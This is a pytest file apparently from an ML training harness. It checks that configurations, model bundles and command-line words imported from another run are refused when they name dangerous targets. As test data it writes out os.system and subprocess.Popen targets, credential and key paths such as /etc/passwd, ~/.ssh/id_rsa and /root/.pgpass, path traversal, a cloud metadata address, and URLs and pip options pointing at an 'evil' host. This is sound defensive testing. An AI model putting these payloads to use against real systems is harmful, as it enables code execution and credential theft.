"""Configurations from elsewhere: of runs, of bundles, and words within them."""

from __future__ import annotations

import json
import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from omegaconf import OmegaConf

from harness.bundle import allowlist
from harness.config.choice_files import CONF
from harness.runs.outputs import Outputs

Server = tuple[str, list[bytes]]

SQL = "harness.data.extract.sql.Sql"
GRAPHQL = "harness.data.extract.graphql.Graphql"

SETTINGS: dict[str, tuple[dict[str, Any], str]] = {
    "a function of Python": ({"model._target_": "os.system"}, "model._target_"),
    "a function behind a class": ({"model._target_": "harness.model.mlp.nn.os.system"}, "model._target_"),
    "a tracker as a model": ({"model._target_": "harness.tracking.mlflow.Mlflow"}, "model._target_"),
    "a source as a model": ({"model._target_": "harness.data.extract.csv.Csv"}, "model._target_"),
    "a launcher as a trainer": (
        {"trainer._target_": "hydra_plugins.harness_launcher.LocalLauncher"},
        "trainer._target_",
    ),
    "a source as a split": ({"split._target_": SQL}, "split._target_"),
    "a callback": ({"callbacks.own._target_": "subprocess.Popen"}, "callbacks.own._target_"),
    "a metric that loads a model": (
        {"evaluate.metrics.own._target_": "torchmetrics.text.BERTScore"},
        "evaluate.metrics.own._target_",
    ),
    "an estimator with layouts of memory": (
        {"data.transform.numeric": [{"_target_": "sklearn.ensemble.RandomTreesEmbedding"}]},
        "data.transform.numeric.0._target_",
    ),
    "a reader of files as a transform": (
        {"data.transform.numeric": [{"_target_": "sklearn.feature_extraction.text.CountVectorizer"}]},
        "data.transform.numeric.0._target_",
    ),
    "a function within a transform": (
        {
            "data.transform.numeric": [
                {
                    "_target_": "sklearn.preprocessing.FunctionTransformer",
                    "func": {"_target_": "hydra.utils.get_method", "path": "os.system"},
                }
            ]
        },
        "data.transform.numeric.0.func._target_",
    ),
    "a cache of pickles": (
        {
            "data.transform.numeric": [
                {"_target_": "sklearn.pipeline.Pipeline", "steps": [], "memory": "here"}
            ]
        },
        "data.transform.numeric.0.memory",
    ),
    "a checkpoint that timm loads": (
        {"model": {"_target_": "harness.model.timm.Timm", "options": {"checkpoint_path": "evil.pth"}}},
        "model.options.checkpoint_path",
    ),
    "weights of the user's": ({"model.weights": "/root/secret.pt"}, "model.weights"),
    "a file of the user's": ({"data.extract.path": "/etc/passwd"}, "data.extract.path"),
    "a file of the home": ({"data.extract.path": "~/.ssh/id_rsa"}, "data.extract.path"),
    "a file above": ({"data.extract.path": ["rows.csv", "../../secret.csv"]}, "data.extract.path.1"),
    "a file through proc": ({"data.extract.path": "/proc/self/cwd/secret.csv"}, "data.extract.path"),
    "a database file": ({"data.extract.url": "sqlite:////home/user/cookies.db"}, "data.extract.url"),
    "a database file by uri": ({"data.extract.url": "sqlite:///file:/etc/x.db?uri=true"}, "data.extract.url"),
    "an environment variable": ({"data.extract.name": "${oc.env:HOME}"}, "data.extract.name"),
    "another reference": ({"data.extract.name": "${oc.create:1}"}, "data.extract.name"),
    "a reference in a key": ({"data.extract": {"${oc.env:HOME}": 1}}, "data.extract"),
    "a service of the user's": (
        {"data.extract.url": "postgresql:///db?service=production"},
        "data.extract.url",
    ),
    "a password file": (
        {"data.extract.url": "postgresql://evil/db?passfile=/root/.pgpass"},
        "data.extract.url",
    ),
    "a certificate": ({"data.extract.url": "postgresql://u:p@evil/db?sslkey=/root/key"}, "data.extract.url"),
    "words that name a function": (
        {"pretrain.words": "trainer=contrastive trainer.optimizer._target_=os.system"},
        "pretrain.words",
    ),
    "words that name a file": ({"pretrain.words": "trainer=../../evil"}, "pretrain.words"),
    "words that name a file of proc": ({"pretrain.words": "trainer=/proc/self/cwd/evil"}, "pretrain.words"),
    "words of a search path": (
        {"pretrain.words": "trainer=contrastive hydra.searchpath=[/tmp]"},
        "pretrain.words",
    ),
}
"""By what it is: settings of a run's configuration, and the field `key` of the refusal."""


@pytest.mark.parametrize("attack", SETTINGS)
def test_a_configuration_may_not_name_it(attack: str, theirs: Path, refused: Any) -> None:
    settings, key = SETTINGS[attack]
    _set(theirs, settings)
    (theirs / "evil.yaml").write_text("_target_: os.system\ncommand: touch ATTACKED\n")
    error = refused(
        lambda: allowlist.adopted(Outputs(Path("outputs")).find("theirs"), Path("outputs")), "UserError"
    )
    assert str(error.key) == key


ADDRESSES = {
    "SQL": {"_target_": SQL, "url": "postgresql://u:p@{host}/db"},
    "SQL with several hosts": {"_target_": SQL, "url": "postgresql://u:p@localhost,{host}/db"},
    "SQL with the host as a parameter": {"_target_": SQL, "url": "postgresql:///db?host={host}"},
    "SQL of this machine": {"_target_": SQL, "url": "postgresql:///db", "host": "localhost"},
    "MySQL": {"_target_": SQL, "url": "mysql+pymysql://{host}/db"},
    "GraphQL": {"_target_": GRAPHQL, "url": "http://{host}/graphql"},
    "cloud metadata": {"_target_": GRAPHQL, "url": "http://169.254.169.254/x", "host": "169.254.169.254"},
    "a file of a server": {"_target_": "harness.data.extract.csv.Csv", "path": "http://{host}/rows.csv"},
    "a file of a server in a cache": {
        "_target_": "harness.data.extract.parquet.Parquet",
        "path": "simplecache::https://{host}/rows.parquet",
    },
    "the hub": {
        "_target_": "harness.data.extract.huggingface.HuggingFace",
        "path": "evil/rows",
        "host": "huggingface.co",
    },
}


@pytest.fixture
def listening() -> Iterator[Server]:
    """A server's address, and what was sent to it."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.settimeout(1)
                    heard.append(b"connected")

        threading.Thread(target=listen, daemon=True).start()
        yield f"127.0.0.1:{server.getsockname()[1]}", heard


@pytest.mark.parametrize("attack", ADDRESSES)
def test_an_address_is_not_opened(
    attack: str, theirs: Path, listening: Server, refused: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    address, heard = listening
    source = dict(ADDRESSES[attack])
    host = source.pop("host", "127.0.0.1")
    monkeypatch.setenv("PGPASSWORD", "secret")
    _set(theirs, {"data.extract": {name: text.format(host=address) for name, text in source.items()}})
    find = Outputs(Path("outputs")).find
    error = refused(lambda: allowlist.adopted(find("theirs"), Path("outputs")), "NotAllowed")
    assert error.allow in (f"host:{host}", "host:localhost")
    assert "secret" not in str(error)
    assert heard == []


def test_a_server_that_is_allowed_gets_no_password_of_the_environment(
    theirs: Path, refused: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    _set(theirs, {"data.extract": {"_target_": SQL, "url": "postgresql://u@db.example.org/db"}})
    monkeypatch.setenv("PGPASSWORD", "secret")
    run, outputs = Outputs(Path("outputs")).find("theirs"), Path("outputs")
    allow = ["host:DB.example.org"]
    refused(lambda: allowlist.adopted(run, outputs, allow), "NotAllowed", allow="env:PGPASSWORD")
    allowlist.adopted(run, outputs, [*allow, "env:PGPASSWORD"])
    monkeypatch.delenv("PGPASSWORD")
    allowlist.adopted(run, outputs, allow)


VERBS = [
    ("rerun", "theirs"),
    ("rerun", "theirs", "--dry"),
    ("evaluate", "theirs", "tracking=none"),
]


@pytest.mark.parametrize("words", VERBS, ids=" ".join)
def test_no_verb_opens_an_address_or_reads_a_file(
    words: tuple[str, ...], theirs: Path, listening: Server, refused_by: Any, here: Path
) -> None:
    address, heard = listening
    _set(theirs, {"data.extract": {"_target_": GRAPHQL, "url": f"http://{address}/graphql"}})
    assert "--allow-host 127.0.0.1" in refused_by(*words)
    assert heard == []
    _set(theirs, {"data.extract": {"_target_": "harness.data.extract.csv.Csv", "path": "/etc/passwd"}})
    assert "give it yourself with data.extract.path=PATH" in refused_by(*words)
    _set(theirs, {"pretrain.words": "trainer=/proc/self/cwd/evil"})
    assert refused_by(*words)
    assert not (here / "outputs" / "runs").exists()


def test_a_report_reads_no_row(theirs: Path, listening: Server, run_cli: Any) -> None:
    address, heard = listening
    _set(theirs, {"data.extract": {"_target_": GRAPHQL, "url": f"http://{address}/graphql"}})
    answer = run_cli("report", "theirs")
    assert answer.status == 0
    assert "Its rows could not be read again" in answer.out
    assert heard == []


BUNDLES: dict[str, tuple[dict[str, Any], str]] = {
    "a function of Python": ({"config": {"model": {"_target_": "os.system"}}}, "model._target_"),
    "code of the user's": ({"code": ["/root/.ssh"]}, "bundle.json"),
    "a package of an address": ({"requirements": ["torch @ https://evil.example.org/x.whl"]}, "bundle.json"),
    "an option of pip": ({"requirements": ["--index-url=https://evil.example.org"]}, "bundle.json"),
    "a package that nobody has": ({"requirements": ["evil-package-of-nobody==1.0"]}, "bundle.json"),
    "a member elsewhere": ({"members": ["../../outputs"]}, "model"),
    "itself as a member": ({"members": ["."]}, "model"),
}


@pytest.mark.parametrize("attack", BUNDLES)
@pytest.mark.parametrize("verb", ["predict", "register", "serve", "export"])
def test_a_bundle_may_not_name_it(attack: str, verb: str, theirs: Path, here: Path, refused_by: Any) -> None:
    facts = theirs / "model" / "bundle.json"
    content = json.loads(facts.read_text())
    facts.write_text(json.dumps({**content, **BUNDLES[attack][0]}))
    (here / "rows.csv").write_text("mean radius\n1\n")
    words = {
        "predict": ["rows.csv", "out.csv"],
        "register": ["--name", "evil"],
        "serve": [],
        "export": ["--format", "safetensors"],
    }
    refused_by(verb, "theirs", *words[verb])
    assert not (here / "out.csv").exists()
    assert not (here / "outputs").exists()


@pytest.mark.parametrize("word", ["{group}={above}", "{group}=/proc/self/cwd/evil", "{group}={above}.yaml"])
@pytest.mark.parametrize("group", ["model", "trainer/optimizer", "data/extract"])
def test_the_users_own_words_name_choices_and_no_files(
    word: str, group: str, here: Path, marker: Path, refused_by: Any
) -> None:
    (here / "evil.yaml").write_text("_target_: os.system\ncommand: touch ATTACKED\n")
    word = word.format(group=group, above=os.path.relpath(here / "evil", CONF / group))
    for words in ((word,), ("check", word), ("-m", f"{word},none", "seed=1,2")):
        assert "has no choice" in refused_by(*words)


def _set(run: Path, settings: dict[str, Any]) -> None:
    file = run / "config.yaml"
    config: Any = OmegaConf.load(file)
    for key, value in settings.items():
        OmegaConf.update(config, key, value, merge=False, force_add=True)
    OmegaConf.save(config, file)
